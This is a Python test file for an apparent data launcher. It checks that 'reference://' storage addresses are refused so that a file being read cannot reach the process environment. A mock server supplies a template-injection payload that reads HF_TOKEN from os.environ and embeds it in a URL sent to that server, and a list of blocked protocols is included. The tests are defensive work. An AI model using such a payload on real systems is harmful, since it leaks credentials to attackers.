"""Addresses by which the author of a file that is read would reach the environment of the process, or run code in it."""

from __future__ import annotations

import json
from collections.abc import Callable, Iterator
from http.server import BaseHTTPRequestHandler

import pytest
from http_server import serving

from launcher.checkpoint.mirror.remote_folder import RemoteFolder
from launcher.config.sections.data import DataSection, Source
from launcher.data.sources import check_sources, locate
from launcher.errors import DataError, SubmitError
from launcher.security.storage_addresses import address_problem

CANARY = "hf_canaryCANARY0123456789abcd"


class Mallory(BaseHTTPRequestHandler):
    """Serves a file of references whose address holds a variable of the reader's environment."""

    asked: list[str]
    address = ""

    def do_GET(self) -> None:
        self.asked.append(self.path)
        url = f"http://{self.headers['Host']}/stolen/{{{{t.__globals__[os].environ[HF_TOKEN]}}}}"
        content = json.dumps({"version": 1, "templates": {"t": "{{x}}"}, "refs": {"a.jsonl": [url]}}).encode()
        self.send_response(200)
        self.send_header("Content-Length", str(len(content)))
        self.end_headers()
        if self.command != "HEAD":
            self.wfile.write(content)

    do_HEAD = do_GET

    def log_message(self, *_: object) -> None:
        pass


@pytest.fixture
def mallory(monkeypatch: pytest.MonkeyPatch) -> Iterator[tuple[str, list[str]]]:
    monkeypatch.setenv("HF_TOKEN", CANARY)
    server = type("Server", (Mallory,), {"asked": []})
    with serving(server) as address:
        yield address, server.asked


@pytest.mark.parametrize("form", ["reference://a.jsonl::{}/refs.json", "simplecache::reference://a.jsonl::{}/refs.json"])
def test_a_file_of_addresses_does_not_reach_the_environment(mallory: tuple[str, list[str]], form: str) -> None:
    address, asked = mallory
    source = Source(path=form.format(address))
    (problem,) = check_sources(DataSection(sources=(source,)))
    assert "reference:// is no storage" in problem.message
    # A run that was planned elsewhere gets no further.
    reads: tuple[Callable[[Source], object], ...] = (locate.digest, locate.fetch_files)
    for read in reads:
        with pytest.raises(DataError, match="reference:// is no storage"):
            read(source)
    with pytest.raises(SubmitError, match="reference:// is no storage"):
        RemoteFolder(form.format(address))
    assert asked == []


@pytest.mark.parametrize(
    "address",
    [
        "reference://a",
        "zip://a::reference://b::https://c",
        "reference::https://c",
        "dask://host:8786/a",
        "generic://a",
        "jupyter://h/a",
    ],
)
def test_what_is_no_storage(address: str) -> None:
    problem = address_problem("data.path", address)
    assert problem is not None
    assert (problem.where, problem.value) == ("data.path", address)


@pytest.mark.parametrize(
    "address",
    [
        *("s3://bucket/a.jsonl", "gs://bucket/a", "abfs://container@account/a", "hf://datasets/o/n", "https://host/a.jsonl"),
        *("zip://*.jsonl::https://host/a.zip", "simplecache::s3://bucket/a", "file:///data/a.jsonl", "memory://a", "sftp://h/a"),
    ],
)
def test_storage(address: str) -> None:
    assert address_problem("data.path", address) is None
